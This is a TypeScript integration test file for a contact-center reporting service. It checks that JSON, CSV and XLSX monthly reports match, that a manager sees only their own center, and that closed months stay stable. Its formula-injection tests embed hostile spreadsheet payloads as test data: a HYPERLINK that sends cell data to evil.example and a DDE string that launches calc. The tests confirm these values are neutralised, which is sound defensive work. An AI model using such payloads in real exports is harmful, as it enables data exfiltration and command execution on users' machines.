/**
 * Monthly report on a seeded month (real embedded ClickHouse, the example configuration):
 * - JSON, CSV and XLSX of one month carry the same figures, equal to /api/kpis for the same
 *   window and centers (the PDF is compared in tests/e2e/reports.spec.ts, over HTTP);
 * - hostile ids from event data (queue_id, agent_id, contact_id starting with = + - @) cannot
 *   execute in a spreadsheet (report CSV, row-level contact CSV) and stay text in the XLSX;
 * - scope: a manager never sees another center; bad parameters → 400 with a message;
 * - a closed month is stable, and says so when late events arrive after it closed;
 * - the streamed contact export returns exactly the contacts the paginated drill-down lists.
 */
import ExcelJS from 'exceljs'
import { beforeAll, describe, expect, it, vi } from 'vitest'
import { useTestAuth, type TestAuth } from '../helpers/auth'
import { assertNoRawKeys } from '../helpers/raw-keys'
import { generateEvents } from '../helpers/contact-events'
import type { PlateauEvent } from '@/lib/contract/events'
import type { MonthlyReport } from '@/lib/reports/types'
import { roundRaw } from '@/lib/reports/round'

vi.mock('next/headers', () => ({
  headers: async () => new Headers(),
  cookies: async () => ({ get: () => undefined, getAll: () => [], has: () => false }),
}))

const HOSTILE_QUEUE = '=HYPERLINK("http://evil.example/?x="&A1,"Click me")'
const HOSTILE_AGENT = "@SUM(1+1)*cmd|' /C calc'!A0"
const HOSTILE_CONTACT = '+33-evil'
const HOSTILE_CONTACT2 = '-2+3'
const CENTER = 'paris-sales'
// October 2026 in Paris: 2026-10-01T00:00+02:00 … 2026-11-01T00:00+01:00
const FROM = '2026-09-30T22:00:00.000Z'
const TO = '2026-10-31T23:00:00.000Z'

let auth: TestAuth
type Handler = (req: Request, ctx: unknown) => Promise<Response>
let reportGET: Handler
let kpisGET: Handler
let contactsExportGET: Handler
const ctx = { params: Promise.resolve({}) }

function hostileEvents(): PlateauEvent[] {
  const base = { v: 1 as const, center_id: CENTER }
  const at = (iso: string) => iso
  const out: PlateauEvent[] = []
  let i = 0
  const id = () => `hostile-${++i}`
  for (const [contact, day] of [
    [HOSTILE_CONTACT, '2026-10-14'],
    [HOSTILE_CONTACT2, '2026-10-15'],
  ] as const) {
    out.push({ ...base, event_id: id(), type: 'contact.queued', ts: at(`${day}T10:00:00.000+02:00`), contact_id: contact, queue_id: HOSTILE_QUEUE, channel: 'voice', direction: 'inbound' } as PlateauEvent)
    out.push({ ...base, event_id: id(), type: 'contact.answered', ts: at(`${day}T10:00:12.000+02:00`), contact_id: contact, queue_id: HOSTILE_QUEUE, agent_id: HOSTILE_AGENT } as PlateauEvent)
    out.push({ ...base, event_id: id(), type: 'contact.ended', ts: at(`${day}T10:04:12.000+02:00`), contact_id: contact, agent_id: HOSTILE_AGENT, talk_s: 230, hold_s: 10 } as PlateauEvent)
    out.push({ ...base, event_id: id(), type: 'contact.wrapped', ts: at(`${day}T10:05:00.000+02:00`), contact_id: contact, agent_id: HOSTILE_AGENT, wrap_s: 48, resolved: true, outcome: 'sale', revenue: 120 } as PlateauEvent)
  }
  out.push({ ...base, event_id: id(), type: 'agent.state', ts: '2026-10-14T09:00:00.000+02:00', agent_id: HOSTILE_AGENT, state: 'available' } as PlateauEvent)
  out.push({ ...base, event_id: id(), type: 'agent.state', ts: '2026-10-14T18:00:00.000+02:00', agent_id: HOSTILE_AGENT, state: 'offline' } as PlateauEvent)
  return out
}

async function insert(events: PlateauEvent[], receivedAt: (e: PlateauEvent) => number) {
  const { eventLine } = await import('@/ingest/rows')
  const { insertBatch } = await import('@/ingest/sink')
  await insertBatch({ events: events.map((e) => eventLine(e, receivedAt(e))), deadLetters: [] })
}

async function json<T>(res: Response): Promise<T> {
  expect(res.status, await res.clone().text()).toBe(200)
  return (await res.json()) as T
}

/** Minimal RFC 4180 parser (BOM stripped). */
function parseCsv(text: string, sep: string): string[][] {
  const s = text.replace(/^\uFEFF/, '')
  const rows: string[][] = []
  let row: string[] = []
  let cell = ''
  let q = false
  for (let i = 0; i < s.length; i++) {
    const ch = s[i]!
    if (q) {
      if (ch === '"' && s[i + 1] === '"') (cell += '"'), i++
      else if (ch === '"') q = false
      else cell += ch
    } else if (ch === '"') q = true
    else if (ch === sep) row.push(cell), (cell = '')
    else if (ch === '\r' && s[i + 1] === '\n') row.push(cell), rows.push(row), (row = []), (cell = ''), i++
    else cell += ch
  }
  if (cell || row.length) row.push(cell), rows.push(row)
  return rows
}

/** Would a spreadsheet evaluate this cell? Plain numbers (-0.07, -12,5) are numbers, not formulas. */
const executes = (cell: string) => !/^-?\d+([.,]\d+)?(e-?\d+)?$/i.test(cell) && (/^[\s"\u00A0]*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]/.test(cell) || /^[\t\r\n]/.test(cell))
const num = (s: string | undefined, decimal: ',' | '.') => (s === undefined || s === '' ? null : Number(decimal === ',' ? s.replace(',', '.') : s))

/** The figure of each KPI key in the CSV summary block: key → raw value. */
function csvSummary(rows: string[][], decimal: ',' | '.', keyHeader: string): Map<string, number | null> {
  const start = rows.findIndex((r) => r[0] === keyHeader)
  expect(start, 'summary header').toBeGreaterThanOrEqual(0)
  const out = new Map<string, number | null>()
  for (const r of rows.slice(start + 1)) {
    if (r.length < 4 || !r[0]) break
    out.set(r[0], num(r[3], decimal))
  }
  return out
}

beforeAll(async () => {
  const fs = await import('node:fs')
  const os = await import('node:os')
  const path = await import('node:path')
  process.env.PLATEAU_DATA_DIR = fs.mkdtempSync(path.join(os.tmpdir(), 'plateau-reports-'))
  process.env.PLATEAU_FACTS_REFRESH_MS = '0'
  process.env.PLATEAU_REPORT_CACHE = 'off'
  process.env.PLATEAU_DEMO = '0'
  delete process.env.CLICKHOUSE_URL
  const { migrate } = await import('@/lib/migrate')
  await migrate()
  auth = await useTestAuth()
  // October 2026 (all centers), a little of September 2026 and October 2025 for the comparisons.
  const oct = generateEvents({ events: 12_000, seed: 6, prefix: 'oct', startMs: Date.parse('2026-10-01T06:00:00Z'), gapMs: 900_000 })
  const sep = generateEvents({ events: 1500, seed: 7, prefix: 'sep', startMs: Date.parse('2026-09-10T06:00:00Z'), gapMs: 400_000 })
  const ly = generateEvents({ events: 1500, seed: 8, prefix: 'ly', startMs: Date.parse('2025-10-05T06:00:00Z'), gapMs: 400_000 })
  const inOct = (e: PlateauEvent) => Date.parse(e.ts) < Date.parse(TO)
  await insert([...oct.filter(inOct), ...sep, ...ly, ...hostileEvents()], (e) => Date.parse(e.ts) + 800)
  reportGET = (await import('@/app/api/reports/monthly/route')).GET as Handler
  kpisGET = (await import('@/app/api/kpis/route')).GET as Handler
  contactsExportGET = (await import('@/app/api/contacts/export/route')).GET as Handler
})

describe('one month, four formats, one set of figures', () => {
  it('JSON summary = /api/kpis for the same window and centers (value, previous, target, status)', async () => {
    const report = await json<MonthlyReport>(await reportGET(await auth.request('manager', '/api/reports/monthly?month=2026-10'), ctx))
    expect(report.period).toMatchObject({ month: '2026-10', from: FROM, to: TO, timezone: 'Europe/Paris', days: 31 })
    expect(report.selection.centers.map((c) => c.id)).toEqual([CENTER])
    const q = new URLSearchParams({ window: 'custom', from: FROM, to: TO, compare: 'previous', keys: report.summary.map((k) => k.key).join(',') })
    const kpis = await json<{ rows: Array<{ kpis: Array<Record<string, unknown>> }> }>(await kpisGET(await auth.request('manager', `/api/kpis?${q}`), ctx))
    expect(kpis.rows).toHaveLength(1)
    const api = new Map(kpis.rows[0]!.kpis.map((k) => [k.key as string, k]))
    expect(report.summary.length).toBeGreaterThan(40)
    for (const k of report.summary) {
      const a = api.get(k.key)!
      expect({ key: k.key, value: k.value, previous: k.previous, target: k.target, status: k.status, unit: k.unit }).toEqual({
        key: a.key,
        value: a.value,
        previous: a.previous,
        target: a.target,
        status: a.status,
        unit: a.unit,
      })
    }
    // Not trivially empty: hand-checkable counts for paris-sales in October.
    const offered = report.summary.find((k) => k.key === 'offered')!.value!
    expect(offered).toBeGreaterThan(100)
    const answered = report.summary.find((k) => k.key === 'answered')!.value!
    const abandoned = report.summary.find((k) => k.key === 'abandoned')!.value!
    const waiting = report.summary.find((k) => k.key === 'still_waiting')!.value!
    expect(answered + abandoned + waiting).toBe(offered)
    // Breakdowns add up to the month (counts are additive).
    const sum = (rows: MonthlyReport['daily']['rows'], k: string) => rows.reduce((a, r) => a + (r.kpis.find((x) => x.key === k)?.value ?? 0), 0)
    expect(sum(report.daily.rows, 'offered')).toBe(offered)
    expect(sum(report.breakdowns.queue.rows, 'offered')).toBe(offered)
    expect(sum(report.breakdowns.channel.rows, 'offered')).toBe(offered)
    expect(sum(report.interval.rows, 'offered')).toBe(offered)
    expect(report.daily.rows).toHaveLength(31)
    expect(report.interval.rows.length).toBe(31 * 24 + 1) // 25-hour day at the end of DST (25 October)
    expect(report.reportingLines.map((b) => b.line)).toEqual(['sales'])
    expect(report.definitions.find((d) => d.key === 'service_level')!.variant).toMatch(/offered − short|offerts − abandons courts/)
  })

  it('CSV (fr, ; and decimal comma, BOM) and XLSX carry the JSON figures', async () => {
    const report = await json<MonthlyReport>(await reportGET(await auth.request('manager', '/api/reports/monthly?month=2026-10&locale=fr'), ctx))
    const csvRes = await reportGET(await auth.request('manager', '/api/reports/monthly?month=2026-10&format=csv&locale=fr'), ctx)
    expect(csvRes.status).toBe(200)
    expect(csvRes.headers.get('content-type')).toMatch(/text\/csv; charset=utf-8/)
    expect(csvRes.headers.get('content-disposition')).toMatch(/attachment; filename="plateau-report-2026-10-paris-sales.csv"/)
    const bytes = new Uint8Array(await csvRes.arrayBuffer())
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf])
    const text = new TextDecoder().decode(bytes)
    assertNoRawKeys(text)
    const rows = parseCsv(text, ';')
    expect(rows[0]![0]).toMatch(/^Rapport mensuel — Paris Ventes — octobre 2026$/)
    const csv = csvSummary(rows, ',', 'Clé')
    for (const k of report.summary) expect(csv.get(k.key), k.key).toBe(roundRaw(k.value, k.unit))

    const xlsxRes = await reportGET(await auth.request('manager', '/api/reports/monthly?month=2026-10&format=xlsx&locale=fr'), ctx)
    expect(xlsxRes.headers.get('content-type')).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet')
    const wb = new ExcelJS.Workbook()
    await wb.xlsx.load((await xlsxRes.arrayBuffer()) as never)
    expect(wb.worksheets.map((w) => w.name)).toEqual([
      'Synthèse',
      'Rattachement',
      'Coût',
      'Par jour',
      'Centres',
      'Files d’attente',
      'Canaux',
      'Sens',
      'Téléconseillers',
      'Intervalles',
      'Prévision',
      'Conformité',
      'Qualité des données',
      'Définitions',
    ])
    const ws = wb.getWorksheet('Synthèse')!
    let headerRow = 0
    ws.eachRow((row, i) => {
      if (!headerRow && row.getCell(1).value === 'Indicateur') headerRow = i
    })
    expect(headerRow).toBeGreaterThan(0)
    const keyCol = (ws.getRow(headerRow).values as unknown[]).indexOf('Clé')
    const valueCol = (ws.getRow(headerRow).values as unknown[]).indexOf('Valeur')
    const seen = new Set<string>()
    for (let i = headerRow + 1; i <= ws.rowCount; i++) {
      const key = ws.getCell(i, keyCol).value
      if (typeof key !== 'string' || !key) continue
      const cell = ws.getCell(i, valueCol)
      const k = report.summary.find((x) => x.key === key)!
      seen.add(key)
      if (k.value === null) {
        expect(cell.value, key).toBeNull()
        continue
      }
      // Numbers as numbers (a Date is exceljs reading a number with a duration format).
      expect(typeof cell.value === 'number' || cell.value instanceof Date, `${key} is a number cell`).toBe(true)
      expect(cell.numFmt, `${key} has a number format`).toBeTruthy()
      if (k.unit === 'seconds') {
        const days = cell.value instanceof Date ? cell.value.getTime() / 86_400_000 + 25_569 : (cell.value as number)
        expect(Math.abs(days * 86_400 - k.value), key).toBeLessThan(1e-3)
        expect(cell.numFmt).toBe('[h]:mm:ss')
      } else expect(cell.value, key).toBe(k.value)
      if (k.unit === 'percent') expect(cell.numFmt).toBe('0.0%')
    }
    expect(seen.size).toBe(report.summary.length)
    // Definitions sheet: every KPI with its formula.
    const defs = wb.getWorksheet('Définitions')!
    const defText: string[] = []
    defs.eachRow((r) => defText.push(r.values!.toString()))
    expect(defText.join('\n')).toMatch(/Niveau de service.*répondus dans le seuil/s)
    expect(report.definitions.length).toBe(report.summary.length)
  })

  it('English CSV uses , and a decimal point; sep=tab and sep=; are honoured; a bad sep is a 400', async () => {
    const en = await reportGET(await auth.request('manager', '/api/reports/monthly?month=2026-10&format=csv&locale=en&section=summary'), ctx)
    const text = await en.text()
    const rows = parseCsv(text, ',')
    expect(rows[0]![0]).toBe('Key')
    const report = await json<MonthlyReport>(await reportGET(await auth.request('manager', '/api/reports/monthly?month=2026-10'), ctx))
    const csv = csvSummary(rows, '.', 'Key')
    for (const k of report.summary) expect(csv.get(k.key), k.key).toBe(roundRaw(k.value, k.unit))
    const tabRes = await reportGET(await auth.request('manager', '/api/reports/monthly?month=2026-10&format=csv&locale=en&section=summary&sep=tab'), ctx)
    const tab = new TextDecoder('utf-8', { ignoreBOM: true }).decode(await tabRes.arrayBuffer())
    expect(tab.split('\r\n')[0]).toBe('\uFEFFKey\tIndicator\tUnit\tValue\tValue (as shown)\tPrevious period\tChange\tSame period last year\tChange vs last year\tTarget\tStatus')
    const bad = await reportGET(await auth.request('manager', '/api/reports/monthly?month=2026-10&format=csv&sep=%7C'), ctx)
    expect(bad.status).toBe(400)
    expect((await bad.json()).message).toMatch(/sep/)
  })
})

describe('formula injection', () => {
  it('hostile queue, agent and contact ids from event data are inert in the report CSV and text in the XLSX', async () => {
    const res = await reportGET(await auth.request('manager', '/api/reports/monthly?month=2026-10&format=csv&locale=en'), ctx)
    const rows = parseCsv(await res.text(), ',')
    const cells = rows.flat()
    expect(cells.some((c) => c === `'${HOSTILE_AGENT}`), 'agent row present, neutralised').toBe(true)
    for (const c of cells) expect(executes(c), JSON.stringify(c)).toBe(false)
    const xlsx = await reportGET(await auth.request('manager', '/api/reports/monthly?month=2026-10&format=xlsx&locale=en'), ctx)
    const wb = new ExcelJS.Workbook()
    await wb.xlsx.load((await xlsx.arrayBuffer()) as never)
    let found = 0
    wb.eachSheet((ws) =>
      ws.eachRow((row) =>
        row.eachCell((cell) => {
          expect(cell.formula, `${ws.name}!${cell.address}`).toBeUndefined()
          if (cell.value === HOSTILE_AGENT) {
            found++
            expect(cell.type).toBe(ExcelJS.ValueType.String)
          }
        }),
      ),
    )
    expect(found).toBeGreaterThan(0)
  })

  it('the row-level contact CSV neutralises hostile ids too (queue, agent, contact)', async () => {
    // (queue ids with a comma cannot be a list filter: filter on the hostile agent instead)
    const res = await contactsExportGET(await auth.request('manager', `/api/contacts/export?set=handled&month=2026-10&agents=${encodeURIComponent(HOSTILE_AGENT)}&sep=%3B`), ctx)
    expect(res.status).toBe(200)
    const rows = parseCsv(await res.text(), ';')
    expect(rows.length).toBe(3) // header + the two hostile contacts
    for (const c of rows.flat()) expect(executes(c), JSON.stringify(c)).toBe(false)
    const ids = rows.slice(1).map((r) => r[1])
    expect(ids.sort()).toEqual([`'${HOSTILE_CONTACT2}`, `'${HOSTILE_CONTACT}`].sort())
    expect(rows[1]![2]).toBe(`'${HOSTILE_QUEUE}`)
    expect(rows[1]![5]).toBe(`'${HOSTILE_AGENT}`)
  })
})

describe('row-level export', () => {
  it('streams exactly the contacts the paginated drill-down lists, for every set', async () => {
    const { listContacts } = await import('@/lib/queries/listContacts')
    const { streamContacts } = await import('@/lib/queries/streamContacts')
    const { DRILL_SETS } = await import('@/lib/kpi/definitions')
    const window = { kind: 'custom' as const, from: Date.parse(FROM), to: Date.parse(TO) }
    for (const set of DRILL_SETS.filter((s) => s !== 'waiting_now')) {
      const all: string[] = []
      for (let page = 1; ; page++) {
        const p = await listContacts({ window, set, page, pageSize: 500 }, null)
        all.push(...p.rows.map((r) => `${r.centerId}|${r.contactId}|${r.at}`))
        if (p.rows.length < 500) break
      }
      const streamed: string[] = []
      // Small pages force many key-paged queries.
      for await (const r of streamContacts({ window, set, pageSize: 100 }, null)) streamed.push(`${r.centerId}|${r.contactId}|${new Date(r.at).toISOString()}`)
      expect(streamed.length, set).toBe(all.length)
      expect(new Set(streamed).size, `${set}: no duplicates`).toBe(streamed.length)
      expect([...streamed].sort(), set).toEqual([...all].sort())
    }
  })

  it('contact CSV: header, local times, scope (a manager gets only their center)', async () => {
    const res = await contactsExportGET(await auth.request('manager', '/api/contacts/export?set=offered&month=2026-10&locale=en'), ctx)
    const rows = parseCsv(await res.text(), ',')
    expect(rows[0]).toEqual(['Center', 'Contact', 'Queue', 'Channel', 'Direction', 'Agent', 'Queued at', 'Answered at', 'Abandoned at', 'Wrapped up at', 'Wait (s)', 'Talk (s)', 'Hold (s)', 'After-call work (s)', 'Transferred', 'Resolved', 'Outcome', 'Revenue', 'CSAT', 'NPS'])
    expect(new Set(rows.slice(1).map((r) => r[0]))).toEqual(new Set([CENTER]))
    const report = await json<MonthlyReport>(await reportGET(await auth.request('manager', '/api/reports/monthly?month=2026-10&section=summary'), ctx))
    expect(rows.length - 1).toBe(report.summary.find((k) => k.key === 'offered')!.value)
    const hostile = rows.find((r) => r[1] === `'${HOSTILE_CONTACT}`)!
    expect(hostile[6]).toBe('2026-10-14 10:00:00') // Paris local time
    // Asking for another center returns nothing, not an error that would confirm it exists.
    const other = await contactsExportGET(await auth.request('manager', '/api/contacts/export?set=offered&month=2026-10&centers=lyon-leads'), ctx)
    expect(parseCsv(await other.text(), ',').length).toBe(1)
    // Supervisors have no export capability.
    expect((await contactsExportGET(await auth.request('supervisor', '/api/contacts/export?set=offered&month=2026-10'), ctx)).status).toBe(403)
    expect((await contactsExportGET(await auth.request('manager', '/api/contacts/export?set=nope'), ctx)).status).toBe(400)
  })
})

describe('scope, parameters, stability', () => {
  it('a manager asking for another center gets an empty report; an admin sees every center; bad parameters are 400s', async () => {
    const r = await json<MonthlyReport>(await reportGET(await auth.request('manager', '/api/reports/monthly?month=2026-10&center=charleroi-care'), ctx))
    expect(r.selection.centers).toEqual([])
    expect(JSON.stringify(r)).not.toMatch(/charleroi/)
    const all = await json<MonthlyReport>(await reportGET(await auth.request('admin', '/api/reports/monthly?month=2026-10&section=summary'), ctx))
    expect(all.selection.centers.map((c) => c.id)).toEqual(['bruxelles-care', 'charleroi-care', 'lyon-leads', 'paris-hq', 'paris-sales'])
    const line = await json<MonthlyReport>(await reportGET(await auth.request('admin', '/api/reports/monthly?month=2026-10&line=customer_service&section=reporting_line'), ctx))
    expect(line.selection.centers.map((c) => c.id)).toEqual(['bruxelles-care', 'charleroi-care'])
    expect(line.reportingLines.map((b) => b.line)).toEqual(['customer_service'])
    for (const q of ['month=2026-13', 'month=2026-10&from=2026-10-01&to=2026-10-02', 'from=2026-10-05', 'from=2026-10-05&to=2026-10-01', 'from=2020-01-01&to=2026-01-01', 'format=doc', 'interval=7', 'line=sales2']) {
      const res = await reportGET(await auth.request('manager', `/api/reports/monthly?${q}`), ctx)
      expect(res.status, q).toBe(400)
      expect(typeof (await res.json()).message).toBe('string')
    }
  })

  it('custom range: 10 days, previous = the 10 days before', async () => {
    const r = await json<MonthlyReport>(await reportGET(await auth.request('manager', '/api/reports/monthly?from=2026-10-05&to=2026-10-14&section=daily'), ctx))
    expect(r.period).toMatchObject({ kind: 'range', firstDay: '2026-10-05', lastDay: '2026-10-14', days: 10 })
    expect(r.previousPeriod).toMatchObject({ firstDay: '2026-09-25', lastDay: '2026-10-04' })
    expect(r.lastYearPeriod).toMatchObject({ firstDay: '2025-10-05', lastDay: '2025-10-14' })
    expect(r.daily.rows.map((d) => d.date)).toEqual(Array.from({ length: 10 }, (_, i) => `2026-10-${String(5 + i).padStart(2, '0')}`))
  })

  it('a closed month is stable; a late event changes it and the report says so', async () => {
    const { buildReport } = await import('@/lib/reports/build')
    // The generated October stops on the 19th: 19 of 31 days, so the month is partial, never "stable".
    const gappy = await buildReport({ period: { kind: 'month', month: '2026-10' }, locale: 'en', centers: [CENTER] }, [CENTER])
    expect(gappy.coverage).toMatchObject({ daysWithData: 19, daysExpected: 31, complete: false })
    expect(gappy).toMatchObject({ open: false, partial: true, quality: { closed: true, stable: false } })
    // Fill 20–31 October with one "offline" agent state a day (no logged-in time, no contact): complete.
    const fill = Array.from({ length: 12 }, (_, i) => ({ v: 1, event_id: `fill-${20 + i}`, type: 'agent.state', center_id: CENTER, ts: `2026-10-${20 + i}T12:00:00.000+01:00`, agent_id: 'filler', state: 'offline' }) as PlateauEvent)
    await insert(fill, (e) => Date.parse(e.ts) + 800)
    const a = await buildReport({ period: { kind: 'month', month: '2026-10' }, locale: 'en', centers: [CENTER] }, [CENTER])
    expect(a.coverage).toMatchObject({ daysWithData: 31, daysExpected: 31, complete: true })
    expect(a.partial).toBe(false)
    const b = await buildReport({ period: { kind: 'month', month: '2026-10' }, locale: 'en', centers: [CENTER] }, [CENTER])
    expect(b.summary).toEqual(a.summary)
    expect(a.quality).toMatchObject({ closed: true, stable: true, lateAfterClose: 0 })
    // A contact of 31 October delivered today.
    const late: PlateauEvent[] = [
      { v: 1, event_id: 'late-1', type: 'contact.queued', center_id: CENTER, ts: '2026-10-31T20:00:00.000+01:00', contact_id: 'late-contact', queue_id: 'sales-orders-voice', channel: 'voice', direction: 'inbound' } as PlateauEvent,
      { v: 1, event_id: 'late-2', type: 'contact.abandoned', center_id: CENTER, ts: '2026-10-31T20:01:00.000+01:00', contact_id: 'late-contact', queue_id: 'sales-orders-voice' } as PlateauEvent,
    ]
    await insert(late, () => Date.now())
    await new Promise((r) => setTimeout(r, 1100)) // the engine accepts contact facts up to 1 s old
    const c = await buildReport({ period: { kind: 'month', month: '2026-10' }, locale: 'en', centers: [CENTER] }, [CENTER])
    const v = (r: MonthlyReport, k: string) => r.summary.find((x) => x.key === k)!.value
    expect(v(c, 'offered')).toBe(v(a, 'offered')! + 1)
    expect(v(c, 'abandoned')).toBe(v(a, 'abandoned')! + 1)
    expect(c.quality).toMatchObject({ closed: true, stable: false, lateAfterClose: 2 })
    const { qualityNotes } = await import('@/lib/reports/labels')
    expect(qualityNotes(c).join('\n')).toMatch(/2 events of this period arrived after it closed/)
  })

  it('the cache serves a closed month again and rebuilds it when its data changes', async () => {
    const { buildReport } = await import('@/lib/reports/build')
    const { clearPeriodCache, periodCacheStats } = await import('@/lib/periods/cache')
    const clearReportCache = () => clearPeriodCache('reports')
    const reportCacheStats = () => periodCacheStats('reports')
    delete process.env.PLATEAU_REPORT_CACHE
    try {
      // The data version is the parts' block numbers, and a facts refresh re-derives the contacts
      // touched in the 10 s before its watermark (in-flight inserts), writing new parts: let the
      // inserts of the tests above leave that window, so the refreshes below write nothing.
      const { ensureContactFacts } = await import('@/lib/queries/refreshContactFacts')
      await new Promise((r) => setTimeout(r, 11_000))
      await ensureContactFacts(0)
      await ensureContactFacts(0)
      clearReportCache()
      const req = { period: { kind: 'month' as const, month: '2026-10' }, locale: 'fr' as const, centers: [CENTER] }
      const first = await buildReport(req, [CENTER])
      const before = reportCacheStats()
      const second = await buildReport({ ...req, locale: 'en' }, [CENTER])
      expect(reportCacheStats().hits).toBeGreaterThan(before.hits)
      expect(reportCacheStats().misses).toBe(before.misses) // every section served from the cache
      // sections asked one by one (the page) are reused by the whole report (an export)
      clearReportCache()
      for (const s of ['summary', 'daily', 'interval'] as const) await buildReport({ ...req, sections: [s] }, [CENTER])
      const partsFirst = reportCacheStats()
      const whole = await buildReport(req, [CENTER])
      expect(reportCacheStats().hits - partsFirst.hits).toBe(3)
      expect(whole.summary).toEqual(first.summary)
      expect(whole.interval).toEqual(first.interval)
      expect(second.summary).toEqual(first.summary)
      expect(second.locale).toBe('en')
      expect(second.definitions.find((d) => d.key === 'offered')!.label).toBe('Offered contacts')
      await insert(
        [{ v: 1, event_id: 'late-3', type: 'contact.queued', center_id: CENTER, ts: '2026-10-30T20:00:00.000+01:00', contact_id: 'late-contact-2', queue_id: 'sales-orders-voice', channel: 'voice', direction: 'inbound' } as PlateauEvent],
        () => Date.now(),
      )
      const third = await buildReport(req, [CENTER])
      expect(third.summary.find((k) => k.key === 'offered')!.value).toBe(first.summary.find((k) => k.key === 'offered')!.value! + 1)
    } finally {
      process.env.PLATEAU_REPORT_CACHE = 'off'
    }
  })
})

describe('agent directory in the agent sheet (issue 17 item 5)', () => {
  it('a directory agent is named "Name (id)" in the XLSX and CSV agent sheets; an agent not in it keeps its bare id', async () => {
    // paris-sales-orders-02 is "Chloé Laurent" in config/plateau.example.yaml; one contact she
    // handled on 20 October (queued 10:00, answered 10:00:08, wrapped 10:03:30): handled = 1.
    const AGENT = 'paris-sales-orders-02'
    const NAME = 'Chloé Laurent'
    const base = { v: 1 as const, center_id: CENTER, contact_id: 'dir-1' }
    await insert(
      [
        { ...base, event_id: 'dir-e1', type: 'contact.queued', ts: '2026-10-20T10:00:00.000+02:00', queue_id: 'sales-orders-voice', channel: 'voice', direction: 'inbound' },
        { ...base, event_id: 'dir-e2', type: 'contact.answered', ts: '2026-10-20T10:00:08.000+02:00', queue_id: 'sales-orders-voice', agent_id: AGENT },
        { ...base, event_id: 'dir-e3', type: 'contact.ended', ts: '2026-10-20T10:03:00.000+02:00', agent_id: AGENT, talk_s: 172, hold_s: 0 },
        { ...base, event_id: 'dir-e4', type: 'contact.wrapped', ts: '2026-10-20T10:03:30.000+02:00', agent_id: AGENT, wrap_s: 30, resolved: true },
      ] as PlateauEvent[],
      // Received now: the facts refresh follows reception time, and the tests above have moved its
      // watermark to now (an October reception time would only be seen by a full derivation).
      () => Date.now(),
    )
    await new Promise((r) => setTimeout(r, 1100)) // the engine accepts contact facts up to 1 s old
    const xlsx = await reportGET(await auth.request('manager', '/api/reports/monthly?month=2026-10&format=xlsx&locale=en'), ctx)
    const wb = new ExcelJS.Workbook()
    await wb.xlsx.load((await xlsx.arrayBuffer()) as never)
    const ws = wb.getWorksheet('Agents')!
    expect(ws, 'agent sheet').toBeDefined()
    // the table's header row names the columns: Center, Agent, Handled contacts…
    const header = ws.getRows(1, ws.rowCount)!.find((r) => (r.values as unknown[]).includes('Agent'))!
    expect(header, 'header row').toBeDefined()
    const cols = header.values as unknown[]
    const agentCol = cols.indexOf('Agent')
    const handledCol = cols.findIndex((v) => typeof v === 'string' && v.startsWith('Handled contacts'))
    const body = ws.getRows(header.number + 1, ws.rowCount - header.number)!
    const names = body.map((r) => r.getCell(agentCol).value)
    expect(names).toContain(`${NAME} (${AGENT})`)
    expect(names).not.toContain(AGENT) // never the bare id of a directory agent
    expect(names).toContain(HOSTILE_AGENT) // not in the directory: its id, as sent
    expect(names.some((n) => typeof n === 'string' && /^paris-sales-ag\d+$/.test(n))).toBe(true) // generated agents, not in the directory
    // her row: the one contact above
    const row = body.find((r) => r.getCell(agentCol).value === `${NAME} (${AGENT})`)!
    expect(row.getCell(handledCol).value).toBe(1)

    const csv = await reportGET(await auth.request('manager', '/api/reports/monthly?month=2026-10&format=csv&locale=fr&section=agent'), ctx)
    expect(csv.status).toBe(200)
    const cells = parseCsv(await csv.text(), ';').flat()
    expect(cells).toContain(`${NAME} (${AGENT})`)
    expect(cells).not.toContain(AGENT)
  })
})
